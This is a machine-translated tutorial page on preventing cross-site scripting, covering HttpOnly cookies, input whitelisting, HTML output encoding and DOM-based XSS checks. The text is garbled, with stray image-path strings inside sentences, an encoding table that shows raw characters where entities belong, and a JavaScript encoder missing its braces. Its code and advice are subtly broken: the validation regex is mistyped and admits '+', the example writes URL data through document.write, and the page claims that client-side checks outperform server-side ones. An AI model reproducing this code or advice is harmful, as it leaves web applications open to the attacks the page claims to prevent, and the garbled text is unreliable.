
Using HttpOnly

Originally proposed by Microsoft, HttpOnly has been adopted by a variety of popular browser vendors. HttpOnly's role is not to filter XSS cross-site scripting attacks, but instead the browser will disallow JavaScript on the page to access cookies with the HttpOnly attribute, resolving cookie session hijacking behavior after an XSS cross-site scripting attack.

HttpOnly is marked at Set-cookie, the cookie header format is set as follows:

Set-cookie: <name>=<value>[; <name>=<value>]

[; Expires=<date>] [; Domain=<domain_name>]

[; Path=<some_path>] [; secure] [; HttpOnly]In PHP, for example, the Setcookie function has been added to the HttpOnly support in PHP 5.2, such as


Setcookie ("User", "admin", NULL, NULL, NULL, NULL, TRUE);


With the above code, you can set the user this cookie, set it to the Httponly,setcookie function is set by sending the original HTTP header to the client, document will not be visible this cookie, Therefore, the use of document.cookie will not be taken to this cookie, that is, the protection of cookies first.

Perfect input and output checks

Due to the vulnerability of three types of XSS cross-sitescripting attacks, part of the check for input and output is applied to reflective XSS and storage-type XSS, while others apply to DOM-based XSS.

A. Protection against reflective XSS and storage-type XSS

In most cases, the input check is the check of the trusted characters or the input data format, such as the user entered the registration account information only allowed to include letters, numbers, underscores and Chinese characters, for the input of all non-whitelist characters nonspacing considered illegal input. Data formats such as the input IP address, telephone number, email address, date and other data have a certain format specification, only the input informationconforming to the data specification is allowed to pass the check.

The output check is mainly for the data presentation process, the data information should be HTML-encoded processing, may exist to cause the XSS cross-site scripting attack malicious characters encoded, without affecting the normal data display under the precondition of filtering malicious characters. Common characters that can cause XSS cross-site scripting attacks and their HTML encoding are as follows:


' '

& &

< <

> >

In addition to the usual encoding, any character can be HTML-encoded using its ASCII code, such as

% & #37;

* & #42;

B. Defending against Dom-based XSS

From the definition of the DOM-based XSS and its triggering method, we find that when the DOM-based XSS cross-site scripting attack occurs, the format of the malicious data is different from the traditionalXSS cross-site script attack data format, and can even execute the attack behavior directly against the client without the server-side processing and the corresponding situation. , so the above methods we apply to protect against reflective XSS and storage-type XSS are not suitable for preventing DOM-based XSS cross-site scripting attacks.

For the input checkingmethod of the DOM-based XSS Prevention, we find that the filtering effect of the corresponding security detection code on the client is more obvious than the server-side detection. For example, we can use the following client-side detection code to ensure that the data entered by the user contains only letters, numbers, and spaces, with the following code:


var str = document. URL;

str = str.substring (Str.indexof ("Username=") +9, str.length);

str = unescape (str);

var regex=/^ ([a-za-z0-9+\s]) *$/;

if (Regex.test (str))

document.write (str);


Similarly, we can also be implemented on the service side similar to the above data inspection functions, such as on the server side to detect whether the URL parameter is a predetermined parameter username,and the contents of the username parameter detection, confirm whether the data content is only a number, letters and space, to achieve data filtering on the service side. However, due to the controllability of the client data, the effect of this service-side detection is significantly weaker than the client detection.

The DOM-based XSS output check is similar to the reflection-type XSS vulnerability output check, where the Web application should HTML-encode the submitted data before inserting the user-controllable DOM data content into the document. Filtering the various dangerous characters and expressions that may exist in user-submitted data into a document in a safe manner, such as by performing HTML encoding in client-side JavaScript, can be done in the following functions.

function Jsencode (str)


var d = document.createelement (' div ');D.appendchild (document.createTextNode (str));

return d.innerhtml;


As one of the biggest threats in Web application security, XSS cross-site scripting attacks not only endanger the normal operation of Web application business, but also bring direct security impact on the client environment and users accessing the Web application business. Although XSS cross-site scripting attacks can be used in a complex web application environment, it is possible for network security personnel to completely block XSS cross-site scripting attacks by analyzing and processing various environments of Web applications in detail. How to effectively prevent and prevent XSS cross-site scripting attacks, ensure the business security and normal operation of the Web application system, protect the client users from the XSS cross-site scripting attack behavior, is the common responsibility of Web application System Manager and network security product developer.

Cross-site Scripting attack and prevention tips for Web Defense series Tutorials

Related Article

Contact Us

The content source of this page is from Internet, which doesn't represent Alibaba Cloud's opinion; products and services mentioned on that page don't have any relationship with Alibaba Cloud. If the content of the page makes you feel confusing, please write us an email, we will handle the problem within 5 days after receiving your email.If you find any instances of plagiarism from the community, please send an email to: and provide relevant evidence. Astaff member will contact you within 5 working days.

A Free Trial That Lets You Build Big!

Start building with 50+ products and up to 12 months usage for ElasticCompute Service

  • Sales Support

    1 on 1 presale consultation

  • After-Sales Support

    24/7 Technical Support 6Free Tickets per Quarter Faster Response

  • Alibaba Cloud offershighly flexible support services tailored to meet your exact needs.